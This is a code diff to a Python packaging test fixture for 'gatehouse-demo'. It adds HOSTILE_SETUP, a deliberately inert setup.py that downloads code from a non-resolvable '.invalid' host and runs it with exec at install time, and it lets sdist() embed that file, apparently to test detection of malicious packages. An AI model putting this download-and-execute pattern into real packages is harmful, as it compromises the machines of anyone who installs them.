@@ -10,6 +10,16 @@ import zipfile
 
 NAME = "gatehouse-demo"
 _STEM = "gatehouse_demo"
+#: An inert look-alike of install-time "download and execute": the host cannot exist (RFC 6761), and nothing runs it.
+HOSTILE_SETUP = """\
+import urllib.request
+
+from setuptools import setup
+
+exec(urllib.request.urlopen("http://payload.invalid/stage2").read())
+
+setup()
+"""
 _MTIME = (2024, 1, 1, 0, 0, 0)
 
 
@@ -51,10 +61,11 @@ def wheel(version: str, *, note: str = "") -> tuple[str, bytes]:
     return f"{_STEM}-{version}-py3-none-any.whl", buffer.getvalue()
 
 
-def sdist(version: str) -> tuple[str, bytes]:
-    """An sdist: its filename and its bytes."""
+def sdist(version: str, *, setup: str | None = None) -> tuple[str, bytes]:
+    """An sdist: its filename and its bytes. `setup` is the text of a setup.py, if it shall have one."""
     top = f"{_STEM}-{version}"
-    files = {
+    files = {} if setup is None else {f"{top}/setup.py": setup}
+    files |= {
         f"{top}/PKG-INFO": metadata(version),
         f"{top}/pyproject.toml": f'[project]\nname = "{NAME}"\nversion = "{version}"\n',
         f"{top}/src/{_STEM}/__init__.py": module(version),
